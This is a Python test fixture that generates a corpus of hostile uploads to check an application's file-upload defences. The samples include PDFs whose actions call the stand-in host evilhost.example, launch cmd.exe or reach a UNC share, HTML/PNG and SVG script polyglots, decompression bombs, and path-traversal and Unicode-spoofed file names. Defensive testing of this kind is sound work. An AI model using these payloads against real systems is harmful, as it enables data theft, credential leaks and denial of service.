"""The hostile upload corpus (targets.md SEC-5), generated at test time: nothing big is committed.

Each case is a file name and its bytes, plus what must become of it: "refused" (a clear error, nothing stored),
"attachment" (a harmless file that may be kept, but is only ever served as a download with nosniff and a
sandboxing CSP) or "sanitised" (a PDF kept as an attachment only after its active content was removed: the
stored file no longer holds it, and its page and page content are still there). The largest things here are claims, not bytes: the 30,000 × 30,000 PNG is ~100 bytes, the
zip bomb ~50 KB (50 MB unpacked).
"""

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from tests.applications import samples

REFUSED, ATTACHMENT, SANITISED = "refused", "attachment", "sanitised"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


@dataclass(frozen=True)
class Case:
    key: str
    name: str
    data: bytes
    outcome: str
    what: str


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def html_after_png() -> bytes:
    """A valid PNG with an HTML page after its end: Pillow reads it, a sniffing browser may render it."""
    return samples.png() + HTML


def html_in_png_text_chunk() -> bytes:
    """A valid PNG whose tEXt chunk is an HTML page (the polyglot Django's security guide warns about)."""
    png = samples.png()
    head, tail = png[:33], png[33:]  # signature + IHDR, then the rest
    return head + _chunk(b"tEXt", b"Comment\x00" + HTML) + tail


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(out, "TIFF")
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


def fits() -> bytes:
    header = "".join(
        card.ljust(80)
        for card in ("SIMPLE  =                    T", "BITPIX  =                    8", "NAXIS   =  0", "END")
    )
    return header.ljust(2880).encode()


def zip_bomb(unpacked: int = 50 * 1024 * 1024) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.pdf", b"\0" * unpacked)
    return out.getvalue()


# --- PDFs with active content or decompression bombs ----------------------------------------------

PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (GB/T 27922) Tj ET"
BOMB_SIZE = 201 * 1024 * 1024  # just past applications.pdfsafe.MAX_INFLATED


def page_pdf(catalog_extra=b"", page_extra=b"", extra_objects=(), content=PAGE_CONTENT, content_filter=b""):
    """One page with visible text (object 4 is its content stream); objects 5, 6 … are `extra_objects`."""
    stream_dict = b"<< /Length %d %s>>" % (len(content), content_filter)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page_extra + b" >>",
        stream_dict + b"\nstream\n" + content + b"\nendstream",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    return bytes(out)


UNC = b"(\\\\\\\\evilhost\\\\share\\\\x.pdf)"  # the PDF string (\\\\evilhost\\share\\x.pdf): \\evilhost\share\x.pdf
HOSTILE_PDFS = {
    "pdf_open_action_uri": (
        "PDF /OpenAction with /URI",
        lambda: page_pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /URI /URI (http://evilhost.example/t) >>",)),
    ),
    "pdf_page_aa_submit": (
        "PDF page /AA with /SubmitForm, link annotation /A",
        lambda: page_pdf(
            page_extra=b"/AA << /O 5 0 R >> /Annots [6 0 R]",
            extra_objects=(
                b"<< /S /SubmitForm /F << /FS /URL /F (http://evilhost.example/c) >> >>",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> /AA << /E 5 0 R >> >>",
            ),
        ),
    ),
    "pdf_gotor_unc": (
        "PDF /GoToR to a UNC path",
        lambda: page_pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>",)),
    ),
    "pdf_import_data": (
        "PDF /ImportData",
        lambda: page_pdf(b"/OpenAction << /S /ImportData /F (evilhost.fdf) >>"),
    ),
    "pdf_xfa": (
        "PDF AcroForm /XFA",
        lambda: page_pdf(
            b"/AcroForm << /Fields [] /XFA 5 0 R /NeedsRendering true >>",
            extra_objects=(b"<< /Length 38 >>\nstream\n<xdp><script>evilhost()</script></xdp>\nendstream",),
        ),
    ),
    "pdf_embedded_file": (
        "PDF embedded file",
        lambda: page_pdf(
            b"/Names << /EmbeddedFiles << /Names [(evilhost.exe) 5 0 R] >> >>",
            extra_objects=(
                b"<< /Type /Filespec /F (evilhost.exe) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
    ),
    "pdf_js_name_tree": (
        "PDF JavaScript in a name tree",
        lambda: page_pdf(
            b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
            extra_objects=(b'<< /S /JavaScript /JS (app.launchURL\\("http://evilhost.example"\\)) >>',),
        ),
    ),
}


@functools.cache
def stream_bomb() -> bytes:
    """A page whose content stream inflates to 201 MB of zeros (about 200 KB in the file)."""
    return page_pdf(content=zlib.compress(b"\0" * BOMB_SIZE, 9), content_filter=b"/Filter /FlateDecode ")


@functools.cache
def object_stream_bomb() -> bytes:
    """A PDF 1.5 file whose object stream (holding the catalog and page) inflates past 200 MB."""
    members = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    header, body = b"", b""
    for number, member in enumerate(members, start=1):
        header += b"%d %d " % (number, len(body))
        body += member + b"\n"
    data = zlib.compress(header + body + b" " * BOMB_SIZE, 9)
    out = bytearray(b"%PDF-1.5\n")
    objstm_offset = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [(0, 0, 255)] + [(2, 4, i) for i in range(3)] + [(1, objstm_offset, 0), (1, xref_offset, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def cases() -> list[Case]:
    pdf = samples.pdf()
    return [
        Case("png_then_html", "scan.png", html_after_png(), ATTACHMENT, "HTML after a valid PNG (polyglot)"),
        Case("png_html_chunk", "scan.png", html_in_png_text_chunk(), ATTACHMENT, "HTML inside a PNG text chunk"),
        Case("svg_script", "logo.svg", svg_with_script(), REFUSED, "SVG with a script"),
        Case("svg_as_png", "logo.png", svg_with_script(), REFUSED, "SVG renamed .png"),
        Case("pdf_open_action_js", "form.pdf", samples.pdf_with_open_action_js(), SANITISED, "PDF /OpenAction JS"),
        Case("pdf_escaped_js", "form.pdf", samples.pdf_with_escaped_js_name(), SANITISED, "PDF /J#53 (escaped /JS)"),
        Case("pdf_js_objstm", "form.pdf", samples.pdf_with_js_in_object_stream(), SANITISED, "PDF JS in object stream"),
        Case("pdf_launch", "form.pdf", samples.pdf_with_launch(), SANITISED, "PDF /Launch action"),
        Case("pdf_embedded", "form.pdf", samples.pdf_with_embedded_file(), SANITISED, "PDF with an embedded file"),
        *(Case(key, "form.pdf", build(), SANITISED, what) for key, (what, build) in HOSTILE_PDFS.items()),
        Case("pdf_stream_bomb", "form.pdf", stream_bomb(), REFUSED, "PDF content stream inflating to 201 MB"),
        Case("pdf_objstm_bomb", "form.pdf", object_stream_bomb(), REFUSED, "PDF object stream inflating to 201 MB"),
        Case("pdf_encrypted", "form.pdf", samples.encrypted_pdf(), REFUSED, "encrypted PDF"),
        Case("pdf_then_html", "form.pdf", b"%PDF-1.4\n" + HTML, REFUSED, "PDF header on an HTML page"),
        Case("exe_as_pdf", "licence.pdf", samples.EXE, REFUSED, ".exe renamed .pdf"),
        Case("html_double_ext", "report.pdf.html", HTML, REFUSED, "report.pdf.html (HTML)"),
        Case("pdf_double_ext", "report.pdf.html", pdf, ATTACHMENT, "report.pdf.html holding a real PDF"),
        Case("html_as_jpg", "photo.jpg", HTML, REFUSED, "HTML renamed .jpg"),
        Case("huge_png", "big.png", samples.huge_png(30_000, 30_000), REFUSED, "30,000 × 30,000 PNG"),
        Case("tiff", "scan.tif", tiff(), REFUSED, "TIFF"),
        Case("tiff_as_png", "scan.png", tiff(), REFUSED, "TIFF renamed .png"),
        Case("gif", "scan.gif", gif(), REFUSED, "GIF"),
        Case("fits", "scan.fits", fits(), REFUSED, "FITS image"),
        Case("zip_bomb", "report.pdf", zip_bomb(), REFUSED, "zip bomb renamed .pdf"),
        # Django's multipart parser already drops the path and the invisible characters of such names (and
        # uploads.check_name refuses any that reach it another way): the PDF is kept under a harmless name.
        Case("traversal", "../../etc/passwd.pdf", pdf, ATTACHMENT, "path traversal (../)"),
        Case("traversal_windows", "..\\..\\boot.pdf", pdf, ATTACHMENT, "path traversal (..\\)"),
        Case("rlo", "invoice\u202efdp.exe", pdf, ATTACHMENT, "Unicode right-to-left override in the name"),
        Case("nul", "licence.pdf\x00.exe", pdf, ATTACHMENT, "NUL in the name"),
        Case("empty", "empty.pdf", b"", REFUSED, "empty file"),
    ]


# Cases that need settings or many files rather than bytes: exercised in test_upload_corpus.py.
REQUEST_CASES = ["oversize", "too_many_files", "too_many_files_for_django"]
